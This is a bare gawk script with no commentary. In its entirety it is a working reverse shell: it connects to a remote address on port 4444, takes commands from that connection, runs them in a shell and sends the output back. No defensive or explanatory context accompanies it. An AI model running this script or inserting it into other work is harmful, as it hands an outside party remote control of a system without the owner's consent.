#!/usr/bin/gawk -f
BEGIN{s="/inet/tcp/0/192.0.2.7/4444";while((s|&getline c)>0){while((c|getline l)>0)print l|&s;close(c)}}
